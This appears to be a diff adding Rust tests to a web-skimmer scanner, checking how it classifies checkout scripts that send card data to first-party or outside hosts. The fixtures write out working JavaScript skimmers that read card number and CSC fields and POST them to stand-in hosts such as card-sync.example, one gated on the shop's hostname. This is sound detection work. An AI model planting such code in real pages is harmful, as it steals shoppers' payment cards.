@@ -90,3 +90,84 @@ fn a_served_page_is_judged_by_its_own_address_whatever_it_declares() {
         vec![r#"["www.pantry-goods.example"]"#.to_string()]
     );
 }
+
+/// A card vault on the shop's own subdomain, named from the page's address at run time
+/// (`'https://pay.' + location.hostname`): only the stub page resolves it, and it must take
+/// the address the built page declares (or, for a lone script, stand for the shop), not
+/// call the vault an outside host. The same construction around an attacker's domain stays
+/// outside.
+fn vault_script(host_expr: &str) -> String {
+    format!(
+        r#"(function () {{
+  var VAULT = {host_expr};
+  document.getElementById('place_order').addEventListener('click', function () {{
+    var card = {{ number: document.getElementById('wc-authorize-net-cim-credit-card-account-number').value,
+                 csc: document.getElementById('wc-authorize-net-cim-credit-card-csc').value }};
+    fetch(VAULT, {{ method: 'POST', credentials: 'include', body: JSON.stringify(card) }});
+  }});
+}})();"#
+    )
+}
+
+const OWN_VAULT: &str =
+    "'https://pay.' + location.hostname.replace(/^www\\./, '') + '/vault/v1/cards'";
+const OUTSIDE_VAULT: &str =
+    "'https://pay.' + location.hostname.replace(/^www\\./, '') + '.card-sync.example/v1/cards'";
+
+fn strong(report: &Value) -> Vec<String> {
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| matches!(f["severity"].as_str(), Some("high" | "critical")))
+        .map(|f| format!("{} {}", f["rule"], f["hosts"]))
+        .collect()
+}
+
+#[test]
+fn the_shops_own_subdomain_built_from_location_is_first_party() {
+    let head = r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/">"#;
+    let page = checkout(head).replace("</body>", r#"<script src="/js/vault.js"></script></body>"#);
+    for (expr, outside) in [(OWN_VAULT, false), (OUTSIDE_VAULT, true)] {
+        let dir = tempfile::tempdir().unwrap();
+        write_file(dir.path(), "checkout/index.html", &page);
+        write_file(dir.path(), "js/vault.js", &vault_script(expr));
+        let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
+        assert!(matches!(code, 0 | 1), "exit {code}: {stderr}");
+        let s = strong(&report);
+        assert_eq!(!s.is_empty(), outside, "{expr}: {s:?}");
+        if outside {
+            assert!(s.iter().any(|f| f.contains("card-sync.example")), "{s:?}");
+        }
+        // The same file as a lone target: the stub's shop stands for the shop.
+        let lone = dir.path().join("js/vault.js");
+        let (_, report, _) = scan_json(&["--no-cache", lone.to_str().unwrap()]);
+        assert_eq!(
+            !strong(&report).is_empty(),
+            outside,
+            "lone {expr}: {report:#}"
+        );
+    }
+}
+
+/// A skimmer that runs only on the shop it was planted on (a hostname check) and names its
+/// collector from that hostname: the stub page must be at the address the built page
+/// declares, or the check fails there and nothing is sent.
+#[test]
+fn the_stub_page_takes_the_declared_address() {
+    let head = r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/">"#;
+    let page = checkout(head).replace("</body>", r#"<script src="/js/theme.js"></script></body>"#);
+    let gated = vault_script(
+        "(location.hostname === 'www.pantry-goods.example' ? 'https://' + location.hostname.split('.')[1] + '-cdn.example/c' : '/noop')",
+    );
+    let dir = tempfile::tempdir().unwrap();
+    write_file(dir.path(), "checkout/index.html", &page);
+    write_file(dir.path(), "js/theme.js", &gated);
+    let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
+    assert_eq!(code, 1, "{stderr}\n{report:#}");
+    let s = strong(&report);
+    assert!(
+        s.iter().any(|f| f.contains("pantry-goods-cdn.example")),
+        "{s:?}"
+    );
+}
